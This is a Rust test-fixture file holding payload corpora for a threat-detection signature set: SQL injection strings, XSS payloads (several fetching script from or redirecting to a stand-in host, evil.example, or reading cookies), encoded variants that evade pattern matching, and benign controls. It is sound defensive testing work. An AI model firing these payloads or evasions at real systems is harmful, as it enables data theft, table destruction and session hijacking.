// SPDX-FileCopyrightText: 2025 Hyperpolymath
// SPDX-License-Identifier: Apache-2.0

//! Payload corpora for threat-detection testing.

/// Classic SQL injection payloads the signature set must catch.
pub fn sql_injection_corpus() -> Vec<&'static str> {
    vec![
        "' OR '1'='1",
        "1; DROP TABLE users",
        "admin'--",
        "x' UNION SELECT username, password FROM users",
        "1; DELETE FROM sessions WHERE 1=1",
        "1; INSERT INTO admins VALUES ('evil')",
        "1; UPDATE users SET role='admin'",
        "' or ''='",
        "1 AND 1=1",
        "105 OR 1=1",
    ]
}

/// Classic XSS payloads the signature set must catch.
pub fn xss_corpus() -> Vec<&'static str> {
    vec![
        "<script>alert(1)</script>",
        "<script src=\"https://evil.example/x.js\"></script>",
        "<SCRIPT>document.location='https://evil.example'</SCRIPT>",
        "javascript:alert(document.cookie)",
        "<img src=x onerror=alert(1)>",
        "<body onload=alert('xss')>",
        "<iframe src=\"https://evil.example\">",
    ]
}

/// Ordinary inputs that must never be flagged.
pub fn benign_corpus() -> Vec<&'static str> {
    vec![
        "normal search term",
        "the quick brown fox",
        "user@example.com",
        "rust borrow checker",
        "organic chemistry 101",
        "O'Malley", // apostrophe alone is not an attack
        "price < 100 > 50",
        "select a good book",
    ]
}

/// Encoded or obfuscated payloads that slip past pattern matching.
///
/// Pattern-based detection is inherently incomplete; these pin the known
/// misses so a signature change that starts catching them is noticed.
pub fn obfuscated_corpus() -> Vec<&'static str> {
    vec![
        "%27%20OR%20%271%27%3D%271",
        "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        "&#x27;&#x4f;&#x52;&#x31;&#x3D;&#x31;",
        "UN/**/ION SEL/**/ECT",
    ]
}

/// Generate distinct rate-limit identifiers.
pub fn generate_identifiers(count: usize) -> Vec<String> {
    (0..count)
        .map(|i| format!("ip:10.{}.{}.{}", (i >> 16) & 0xFF, (i >> 8) & 0xFF, i & 0xFF))
        .collect()
}
